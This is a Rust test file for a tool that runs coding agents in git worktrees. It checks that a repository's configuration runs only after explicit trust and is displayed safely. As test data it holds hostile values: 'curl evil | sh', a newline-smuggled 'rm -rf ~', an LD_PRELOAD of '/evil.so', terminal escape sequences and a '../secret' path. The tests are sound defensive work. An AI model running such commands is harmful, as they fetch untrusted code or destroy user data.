//! What a repository supplies, and how a new worktree is set up: trust first, then files, hook and commands.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use nix::sys::signal::Signal;

use crate::support::{World, runs, signal, until};

/// Setup and verification that write down that they ran.
const RUNS: &str =
    "[worktrees]\nsetup = ['echo setup >> \"$WORLD/ran\"']\n[completion]\nverify = ['echo verify >> \"$WORLD/ran\"']\n";

impl World {
    /// Writes the repository's own configuration.
    fn supply(&self, text: &str) {
        fs::write(self.repo().join(".ganger.toml"), text).unwrap();
    }

    /// Writes it, and trusts it.
    fn trust(&self, text: &str) {
        self.supply(text);
        self.ok(&["trust"]);
    }

    fn ran(&self) -> String {
        fs::read_to_string(self.path("ran")).unwrap_or_default()
    }

    /// Dispatches a task that must fail in preflight; what was said.
    fn unfit(&self, id: i64) -> String {
        let ran = self.fails(5, &["dispatch", &id.to_string()]);
        let task = self.task(id);
        assert_eq!(task["status"], "failed", "{task}");
        assert_eq!(self.causes(id).last().unwrap(), "preflight");
        assert_eq!(task["attempts"].as_array().unwrap().len(), 0, "{task}");
        ran.stderr
    }

    fn worktree(&self, id: i64) -> PathBuf {
        self.task(id)["attempt"]["worktree"].as_str().unwrap().into()
    }

    /// What was set up and verified, line by line.
    fn log(&self, id: i64) -> Vec<String> {
        self.ok(&["log", &id.to_string(), "--verify"]).lines().map(str::to_owned).collect()
    }

    /// Makes another repository beside the first.
    fn another_repository(&self) -> PathBuf {
        let other = self.path("other");
        fs::create_dir(&other).unwrap();
        self.run("git", &["init", "-q"], &other);
        self.run("git", &["commit", "-q", "--allow-empty", "-m", "one"], &other);
        other
    }
}

#[test]
fn s8_what_a_repository_supplies_runs_only_after_trust_once_for_each_content() {
    let world = World::new();
    world.supply(RUNS);
    let first = world.add("echo x > f");
    let said = world.unfit(first);
    assert!(said.contains("the repository's .ganger.toml is not trusted (it was changed, or never trusted)"), "{said}");
    let hint = format!("ganger trust -C {}", world.repo().canonicalize().unwrap().display());
    assert!(said.contains(&hint), "{said}");
    assert_eq!((world.ran().as_str(), world.worktrees().len()), ("", 0));

    let told = world.ok(&["trust"]);
    for part in ["echo setup >> \"$WORLD/ran\"", "echo verify >> \"$WORLD/ran\"", ".ganger.toml"] {
        assert!(told.contains(part), "{told}");
    }
    world.ok(&["retry", &first.to_string()]);
    world.settled(first, "review");
    assert_eq!(world.ran(), "setup\nverify\n");

    world.supply(&format!("{RUNS}#"));
    let second = world.add("echo x > f");
    world.unfit(second);
    world.ok(&["trust"]);
    world.ok(&["retry", &second.to_string()]);
    world.settled(second, "review");

    // What was trusted once is.
    world.supply(RUNS);
    let third = world.dispatch("echo x > f");
    world.settled(third, "review");
    assert_eq!(world.ran(), "setup\nverify\n".repeat(3));

    assert!(world.ok(&["trust", "--revoke"]).contains("2 contents"));
    let fourth = world.add("echo x > f");
    world.unfit(fourth);
    assert_eq!(world.ran(), "setup\nverify\n".repeat(3));
    world.reconciled();
}

#[test]
fn what_only_reads_works_with_the_persons_own_settings_until_then() {
    let world = World::new();
    world.supply("default_agent = 'bot'\n[agents.bot]\ncommand = ['sh', '-c', 'echo bot > f']\n");
    let id = world.add("true");
    assert_eq!(world.task(id)["agent"], "shell");
    assert!(!world.ok(&["config", "show"]).contains("bot"));
    let quiet = world.ganger(&["list"]);
    let verbose = world.ganger(&["list", "-v"]);
    assert!(!quiet.stderr.contains("trust") && verbose.stderr.contains("not trusted and not obeyed"), "{verbose:?}");
    assert!(world.fails(2, &["add", "x", "--agent", "bot"]).stderr.contains("not configured"));

    world.ok(&["trust"]);
    assert!(world.ok(&["config", "show"]).contains("default_agent = \"bot\""));
    assert!(world.ganger(&["list", "-v"]).stderr.contains(".ganger.toml is obeyed"));
    let id = world.dispatch("no matter what");
    assert_eq!(world.task(id)["agent"], "bot");
    world.settled(id, "review");
}

#[test]
fn trust_shows_what_it_is_about_and_changes_nothing_when_it_only_shows() {
    let world = World::new();
    assert!(world.fails(2, &["trust"]).stderr.contains("has no .ganger.toml"));
    world.fails(2, &["trust", "--show"]);
    world.supply(
        "[worktrees]\nlink = ['node_modules']\nhooks = true\n[agents.bot]\ncommand = ['bot\\u001b[31m', '{prompt}']\n",
    );
    for _ in 0..2 {
        let shown = world.ganger(&["trust", "--show", "--json"]).json();
        assert_eq!((shown["trusted"].as_bool(), shown["hash"].as_str().unwrap().len()), (Some(false), 64), "{shown}");
        assert!(shown["path"].as_str().unwrap().ends_with("/repo/.ganger.toml"), "{shown}");
    }
    let trusted = world.ganger(&["trust", "--json"]).json();
    assert_eq!(
        (trusted["link"][0].as_str(), trusted["hooks"].as_bool()),
        (Some("node_modules"), Some(true)),
        "{trusted}"
    );
    assert_eq!(trusted["agents"]["bot"]["command"][1], "{prompt}", "{trusted}");
    assert_eq!(trusted["agents"].as_object().unwrap().len(), 1, "only what the file says: {trusted}");
    let told = world.ok(&["trust"]);
    assert!(told.contains("git hook run post-checkout") && !told.contains('\u{1b}'), "{told:?}");
    assert_eq!(world.ganger(&["trust", "--show", "--json"]).json()["trusted"], true);
    assert_eq!(world.ganger(&["trust", "--revoke", "--json"]).json()["forgotten"], 1);
    assert_eq!(world.ganger(&["trust", "--show", "--json"]).json()["trusted"], false);
}

#[test]
fn s9_everything_that_would_be_obeyed_is_shown_before_it_is_and_what_has_changed_since() {
    let world = World::new();
    let text = "default_agent = 'bot'\n[agents.bot]\ncommand = ['bot', '--flag', '{prompt}']\nresume = ['bot', '--again']\n\
                unsafe = ['--yolo']\nenv = { LD_PRELOAD = '/evil.so' }\n[agents.claude]\nmode = 'headless'\n[worktrees]\n\
                root = '{repo}/.trees'\nbranch = 'ours/{id}'\nbase = 'develop'\ncopy = ['.env']\nlink = ['cache']\nhooks = true\n\
                setup = ['npm ci', \"echo hidden # \\nrm -rf ~\"]\nsetup_timeout = '9m'\n[queue]\ntimeout = '77m'\n\
                max_orphan_retries = 5\n[completion]\nverify = ['make \\u202E test', 'ok']\nverify_timeout = '8m'\n\
                preamble = \"do\\u001b[2J it\"\n";
    let text = text.replace("'make \\u202E test'", "\"make \\u202E test\"");
    world.supply(&text);
    let shown = world.ok(&["trust", "--show"]);
    let wanted = [
        "default_agent bot",
        "agents.bot.command [\"bot\", \"--flag\", \"{prompt}\"]",
        "agents.bot.resume [\"bot\", \"--again\"]",
        "agents.bot.unsafe [\"--yolo\"]",
        "agents.bot.env.LD_PRELOAD /evil.so",
        "agents.claude.mode headless",
        "worktrees.root {repo}/.trees",
        "worktrees.branch ours/{id}",
        "worktrees.base develop",
        "worktrees.copy .env",
        "worktrees.link cache",
        "worktrees.hooks true: runs git hook run post-checkout",
        "worktrees.setup npm ci",
        // What would be two commands is not shown as a comment.
        "worktrees.setup \"echo hidden # \\nrm -rf ~\"",
        "worktrees.setup_timeout 9m",
        "queue.timeout 77m",
        "queue.max_orphan_retries 5",
        "completion.verify \"make \\u{202e} test\"",
        "completion.verify ok",
        "completion.verify_timeout 8m",
        "completion.preamble \"do\\u{1b}[2J it\"",
    ];
    let rows = |shown: &str| -> Vec<String> {
        shown.lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect()
    };
    for row in wanted {
        assert!(rows(&shown).contains(&row.to_owned()), "{row}: {shown}");
    }
    assert_eq!(rows(&shown).len(), wanted.len() + 3, "file, hash, and whether it is trusted: {shown}");
    assert!(shown.chars().all(|c| c == '\n' || !c.is_control()), "{shown:?}");
    assert!(world.ok(&["config", "check"]).contains("not trusted and not obeyed: ganger trust --show"));
    assert!(!world.ok(&["config", "show"]).contains("bot"), "showing it trusts nothing");
    let told = world.ok(&["trust"]);
    assert_eq!(rows(&told)[..wanted.len() + 3], rows(&shown)[..]);
    // One command more, one value less.
    world.supply(
        &text.replace("setup = ['npm ci',", "setup = ['npm ci', 'curl evil | sh',").replace("base = 'develop'\n", ""),
    );
    let changed = rows(&world.ok(&["trust", "--show"]));
    let marked: Vec<&String> = changed.iter().filter(|row| row.starts_with(['+', '-'])).collect();
    assert_eq!(marked, ["- worktrees.base develop", "+ worktrees.setup curl evil | sh"], "{changed:?}");
    let json = world.ganger(&["trust", "--show", "--json"]).json();
    assert_eq!(json["settings"]["worktrees.setup"][1], "curl evil | sh", "{json}");
    assert_eq!(json["before"]["worktrees.base"], "develop", "{json}");
}

#[test]
fn at_a_terminal_trust_asks_first() {
    let world = World::new();
    world.supply(RUNS);
    let asks = |answer: &str| {
        world.tmux(&["kill-server"]);
        fs::remove_file(world.path("code")).ok();
        let command = format!("{} trust; echo $? > {}", env!("CARGO_BIN_EXE_ganger"), world.path("code").display());
        world.tmux(&["new-session", "-d", "-x", "150", "-y", "50", "-s", "t", &command]);
        until("it asks", || world.tmux(&["capture-pane", "-p", "-t", "=t:"]).contains("[y/N]").then_some(()));
        let screen = world.tmux(&["capture-pane", "-p", "-t", "=t:"]);
        assert!(screen.contains("echo setup >>"), "{screen}");
        assert_eq!(world.ganger(&["trust", "--show", "--json"]).json()["trusted"], false);
        world.tmux(&["send-keys", "-t", "=t:", answer, "Enter"]);
        world.file("code")
    };
    assert_eq!(asks("n"), "1\n");
    assert_eq!(world.ganger(&["trust", "--show", "--json"]).json()["trusted"], false);
    assert_eq!(asks("y"), "0\n");
    assert_eq!(world.ganger(&["trust", "--show", "--json"]).json()["trusted"], true);
}

#[test]
fn tasks_that_named_no_agent_get_the_repositorys_once_it_is_trusted() {
    let world = World::new();
    world.supply("default_agent = 'bot'\n[agents.bot]\ncommand = ['sh', '-c', 'echo bot > f']\n");
    let (ready, failed) = (world.add("true"), world.add("true"));
    let chosen: i64 = world.ok(&["add", "x", "--agent", "shell"]).trim().parse().unwrap();
    world.unfit(failed);
    let refused = world.fails(2, &["add", "x", "--agent", "bot"]).stderr;
    assert!(refused.contains("not configured") && refused.contains("is not trusted"), "{refused}");
    let told = world.ok(&["trust"]);
    assert!(told.contains(&format!("task {ready} named no agent, and gets bot")), "{told}");
    let agents = [ready, failed, chosen].map(|id| world.task(id)["agent"].as_str().unwrap().to_owned());
    assert_eq!(agents, ["bot", "bot", "shell"]);
    // Another default moves them along; one that a person has chosen since stays.
    world.ok(&["edit", &failed.to_string(), "--agent", "shell"]);
    world.supply("default_agent = 'cat'\n[agents.cat]\ncommand = ['cat']\n");
    let moved = world.ganger(&["trust", "--json"]).json()["tasks"].clone();
    assert_eq!(moved, serde_json::json!([{ "task": ready, "agent": "cat" }]));
}

#[test]
fn a_file_that_says_something_wrongly_is_refused_with_its_line() {
    let world = World::new();
    world.supply("[worktrees]\nsetup = ['true']\n[tmux]\nsize = '80x24'\n");
    for command in [["trust"].as_slice(), &["config", "check"]] {
        let said = world.fails(2, command).stderr;
        assert!(
            said.contains("a repository can't set `tmux` at ") && said.contains("/.ganger.toml:3; it belongs"),
            "{said}"
        );
    }
    assert_eq!(world.ganger(&["trust", "--show", "--json"]).json()["trusted"], false);
    // One that was sound when it was trusted, for a ganger that is not there any more.
    let hash = world.ganger(&["trust", "--show", "--json"]).json()["hash"].as_str().unwrap().to_owned();
    let repo = world.repo().canonicalize().unwrap();
    world.sql(&format!("INSERT INTO trust (repo, hash, at) VALUES ('{}', '{hash}', 1)", repo.display()));
    assert!(world.fails(2, &["add", "x"]).stderr.contains(".ganger.toml:3"));
    world.ok(&["list"]);
    world.supply("");
    let id = world.add("true");
    world.supply("[worktrees]\nsetup = ['true']\n[tmux]\nsize = '80x24'\n");
    assert!(world.unfit(id).contains(".ganger.toml:3"));
    fs::remove_file(world.repo().join(".ganger.toml")).unwrap();
    nix::unistd::mkfifo(&world.repo().join(".ganger.toml"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let id = world.ganger(&["add", "x"]);
    assert!(id.stderr.contains("it is not a file"), "{id:?}");
}

#[test]
fn every_task_obeys_the_settings_of_its_own_repository() {
    let world = World::new();
    let other = world.another_repository();
    let at = other.to_str().unwrap().to_owned();
    world.trust("[worktrees]\nbranch = 'ours/{id}'\n");
    fs::write(other.join(".ganger.toml"), "[worktrees]\nroot = '{repo}/.trees'\nbranch = 'theirs/{id}'\n").unwrap();
    world.ok(&["-C", &at, "trust"]);
    let ours = world.add("echo x > f");
    let theirs: i64 = world.ok(&["-C", &at, "add", "a task", "--prompt", "echo x > f"]).trim().parse().unwrap();
    world.ok(&["dispatch", &ours.to_string(), &theirs.to_string()]);
    for (id, branch) in [(ours, format!("ours/{ours}")), (theirs, format!("theirs/{theirs}"))] {
        let task = world.settled(id, "review");
        assert_eq!(task["attempt"]["branch"], branch.as_str(), "{task}");
    }
    let tree = world.worktree(theirs);
    assert!(tree.starts_with(other.canonicalize().unwrap().join(".trees")), "{tree:?}");
    // Where a tree is parked does not depend on what is configured by then.
    fs::remove_file(other.join(".ganger.toml")).unwrap();
    world.ok(&["rm", &theirs.to_string()]);
    assert_eq!(fs::read_dir(other.join(".trees/.trash")).unwrap().count(), 1);
    world.reconciled();
}

#[test]
fn how_often_an_orphan_is_tried_again_is_the_repositorys_to_say() {
    let world = World::new();
    world.trust("[queue]\nmax_orphan_retries = 0\n");
    let id = world.dispatch("while :; do sleep 0.05; done");
    let task = world.task(id);
    let pid = |name: &str| task["attempt"][name].as_i64().unwrap();
    signal(pid("shim_pid"), Signal::SIGKILL);
    until("its end", || (!runs(pid("agent_pid"))).then_some(()));
    world.reconciled();
    assert_eq!(world.status(id), "failed");
    assert_eq!(world.causes(id).last().unwrap(), "crash-loop");
}

/// Ignored files in the repository: some to copy, some to link.
fn ignored(world: &World) {
    world.commit(".gitignore", ".env*\nnode_modules\ncache/\n");
    for (name, content) in [
        (".env", "main"),
        (".env.local", "local"),
        ("node_modules/x/index.js", "x"),
        ("cache/deep/blob", "blob"),
        ("note", ""),
    ] {
        let path = world.repo().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }
    fs::set_permissions(world.repo().join("cache/deep/blob"), fs::Permissions::from_mode(0o750)).unwrap();
}

#[test]
fn ignored_files_are_copied_and_linked_before_the_setup_and_are_no_evidence() {
    let world = World::new();
    ignored(&world);
    world.configure(
        "[agents.shell]\nno_output = 'failed'\n[worktrees]\ncopy = ['.env*', '**/deep', 'note', 'nothing']\nlink = ['node_modules']\nsetup = ['cat .env node_modules/x/index.js > \"$WORLD/ran\"']",
    );
    let id = world.dispatch("true");
    let task = world.settled(id, "failed");
    assert_eq!(task["attempt"]["cause"], "no-output", "{task}");
    assert_eq!(world.ran(), "mainx");
    let tree = world.worktree(id);
    let read = |name: &str| fs::read_to_string(tree.join(name)).unwrap();
    assert_eq!(
        (read(".env"), read(".env.local"), read("cache/deep/blob")),
        ("main".into(), "local".into(), "blob".into())
    );
    assert_eq!(tree.join("cache/deep/blob").metadata().unwrap().permissions().mode() & 0o777, 0o750);
    assert_eq!(
        fs::read_link(tree.join("node_modules")).unwrap(),
        world.repo().canonicalize().unwrap().join("node_modules")
    );
    assert!(!tree.join("note").exists(), "it is not ignored");
    let log = world.log(id);
    for line in ["# copied .env", "# copied .env.local", "# copied cache/deep", "# linked node_modules"] {
        assert!(log.iter().any(|found| found == line), "{line}: {log:?}");
    }
    world.reconciled();
}

#[test]
fn what_worktreeinclude_names_and_git_ignores_is_copied() {
    let world = World::new();
    ignored(&world);
    // A comment, a folder, a negation, what git does not ignore, and what only looks like it.
    world.commit(".worktreeinclude", "# for a new tree\n.env*\n!.env.local\ncache/\nnote\n/nowhere\n");
    let id = world.dispatch("true");
    world.settled(id, "review");
    let tree = world.worktree(id);
    let read = |name: &str| fs::read_to_string(tree.join(name)).ok();
    assert_eq!((read(".env"), read("cache/deep/blob")), (Some("main".into()), Some("blob".into())));
    assert_eq!((read(".env.local"), read("node_modules/x/index.js"), read("note")), (None, None, None));
    assert_eq!(tree.join("cache/deep/blob").metadata().unwrap().permissions().mode() & 0o777, 0o750);
    let log = world.log(id);
    for line in ["# copied .env", "# copied cache/deep/blob"] {
        assert!(log.iter().any(|found| found == line), "{line}: {log:?}");
    }
    // Many are told of together; what is there already stays.
    for number in 0..30 {
        fs::write(world.repo().join(format!("cache/{number}")), "").unwrap();
    }
    let id = world.dispatch("true");
    world.settled(id, "review");
    assert!(world.worktree(id).join("cache/29").exists());
    let wanted = "# copied 32 files that .worktreeinclude names; 0 were here already and are kept";
    assert!(world.log(id).iter().any(|found| found == wanted), "{:?}", world.log(id));
    world.configure("[worktrees]\ninclude = false");
    let id = world.dispatch("true");
    world.settled(id, "review");
    assert!(!world.worktree(id).join(".env").exists());
    world.reconciled();
}

#[test]
fn hooks_are_added_to_settings_that_were_brought_along() {
    let world = World::new();
    world.commit(".gitignore", ".claude/\n");
    fs::create_dir(world.repo().join(".claude")).unwrap();
    fs::write(world.repo().join(".claude/settings.local.json"), "{\"permissions\": {\"allow\": [\"Mine\"]}}\n")
        .unwrap();
    world.program("claude", "#!/bin/sh\ncp .claude/settings.local.json \"$WORLD/seen\"; echo x > f\n");
    world.configure("[worktrees]\ncopy = ['.claude']");
    let id: i64 = world.ok(&["add", "a task", "--agent", "claude", "--start"]).trim().parse().unwrap();
    world.settled(id, "review");
    let seen = world.file("seen");
    assert!(seen.contains("\"Mine\"") && seen.contains("__hook"), "{seen}");
    let own = fs::read_to_string(world.repo().join(".claude/settings.local.json")).unwrap();
    assert!(!own.contains("__hook"), "{own}");
}

#[test]
fn nothing_that_the_commit_has_is_overwritten() {
    let world = World::new();
    // In the commit it is a file of its own; in the main worktree it is ignored since.
    world.commit(".env", "committed");
    world.git(&["tag", "base"]);
    world.git(&["rm", "-q", ".env"]);
    world.commit(".gitignore", ".env\n");
    fs::write(world.repo().join(".env"), "main").unwrap();
    world.configure("[worktrees]\nbase = 'base'\ncopy = ['.env']\nlink = ['.env']");
    let id = world.dispatch("echo x > f");
    world.settled(id, "review");
    assert_eq!(fs::read_to_string(world.worktree(id).join(".env")).unwrap(), "committed");
    assert_eq!(world.log(id), ["# kept .env: it is here already", "# kept .env: it is here already"]);
}

#[test]
fn a_pattern_that_leads_out_of_the_repository_is_refused_with_its_line() {
    let world = World::new();
    world.configure("[worktrees]\ncopy = ['../secret']");
    let said = world.fails(2, &["list"]).stderr;
    assert!(said.contains("\"../secret\" leads out of it at ") && said.contains("config.toml:3"), "{said}");
}

#[test]
fn a_failing_setup_names_its_command_and_a_retry_sets_up_again() {
    let world = World::new();
    world.configure(
        "[worktrees]\nsetup = ['echo so far so good', 'echo oh no; test -e \"$WORLD/go\"', 'echo ok > done.txt']",
    );
    let id = world.add("cat done.txt > f; exit 3");
    let said = world.fails(5, &["dispatch", &id.to_string()]).stderr;
    assert!(said.contains("setup failed: `echo oh no; test -e \"$WORLD/go\"`: exit status 1"), "{said}");
    let log = world.log(id);
    for line in ["$ echo so far so good", "so far so good", "oh no", "exit status 1"] {
        assert!(log.iter().any(|found| found.trim() == line), "{line}: {log:?}");
    }
    fs::write(world.path("go"), "").unwrap();
    world.ok(&["retry", &id.to_string()]);
    assert_eq!(world.settled(id, "failed")["attempt"]["exit_code"], 3);
    assert_eq!(fs::read_to_string(world.worktree(id).join("f")).unwrap(), "ok\n");
    // Once an agent has worked in it, a tree is set up.
    fs::remove_file(world.path("go")).unwrap();
    world.ok(&["retry", &id.to_string()]);
    let task = world.settled(id, "failed");
    assert_eq!((task["attempt"]["number"].as_i64(), task["attempt"]["exit_code"].as_i64()), (Some(3), Some(3)));
}

#[test]
fn a_file_that_can_not_be_brought_fails_the_setup_and_is_named() {
    let world = World::new();
    ignored(&world);
    world.configure("[worktrees]\ncopy = ['.env']");
    // The answer of git names what is not there any more, in a folder that is a file by now.
    world.wrap("git", "case \"$*\" in *ls-files*--ignored*) printf 'note/.env\\0';; *) real \"$@\"; exit $?;; esac");
    world.configure("[worktrees]\ncopy = ['note/.env']");
    let id = world.add("true");
    let ran = world.fails(5, &["dispatch", &id.to_string()]);
    assert!(ran.stderr.contains("setup failed: worktrees.copy: ") && ran.stderr.contains("note/.env"), "{ran:?}");
    let task = world.task(id);
    assert_eq!((task["status"].as_str(), task["attempt"]["cause"].as_str()), (Some("failed"), Some("setup")));
}

fn hook(world: &World, script: &str) {
    let path = world.repo().join(".git/hooks/post-checkout");
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn the_repositorys_hook_runs_only_when_that_is_configured() {
    let world = World::new();
    hook(&world, "echo \"$1 $2 $3 $(pwd)\" >> \"$WORLD/ran\"");
    let id = world.dispatch("echo x > f");
    world.settled(id, "review");
    assert_eq!(world.ran(), "");
    world.configure("[worktrees]\nhooks = true");
    let id = world.dispatch("echo x > f");
    world.settled(id, "review");
    let expected =
        format!("{} {} 1 {}\n", "0".repeat(40), world.git(&["rev-parse", "HEAD"]), shown(&world.worktree(id)));
    assert_eq!(world.ran(), expected);
    assert_eq!(world.log(id), ["$ git hook run post-checkout"]);
    fs::remove_file(world.repo().join(".git/hooks/post-checkout")).unwrap();
    let id = world.dispatch("echo x > f");
    world.settled(id, "review");
}

fn shown(path: &Path) -> String {
    path.canonicalize().unwrap().to_str().unwrap().to_owned()
}

#[test]
fn a_hanging_setup_ends_at_its_deadline() {
    let world = World::new();
    for (configured, named) in [
        ("setup = ['sleep 1000']", "`sleep 1000`: ran past setup_timeout"),
        ("hooks = true", "`git hook run post-checkout`: ran past setup_timeout"),
    ] {
        hook(&world, "sleep 1000");
        world.configure(&format!("[worktrees]\nsetup_timeout = '300ms'\n{configured}"));
        let id = world.add("true");
        let ran = world.fails(5, &["dispatch", &id.to_string()]);
        assert!(ran.stderr.contains(named), "{ran:?}");
        assert_eq!(world.task(id)["attempt"]["cause"], "setup");
    }
    world.reconciled();
}

#[test]
fn s25_the_umask_is_the_dispatchers_and_not_the_tmux_servers() {
    let world = World::new();
    world.run("sh", &["-c", "umask 000; exec tmux new-session -d -s mine -- sleep 1000"], &world.repo());
    world.supply(
        "[worktrees]\nsetup = [\"umask > $WORLD/setup\"]\n[completion]\nverify = [\"umask > $WORLD/verify\"]\n",
    );
    world.ok(&["trust"]);
    let id = world.add("umask > \"$WORLD/agent\"; echo x > made");
    let dispatch = format!("umask 027; exec '{}' dispatch {id}", env!("CARGO_BIN_EXE_ganger"));
    world.run("sh", &["-c", &dispatch], &world.repo());
    world.settled(id, "review");
    for who in ["setup", "agent", "verify"] {
        assert_eq!(fs::read_to_string(world.path(who)).unwrap().trim(), "0027", "{who}");
    }
    let made = fs::metadata(world.worktree(id).join("made")).unwrap();
    assert_eq!(std::os::unix::fs::PermissionsExt::mode(&made.permissions()) & 0o777, 0o640);
}
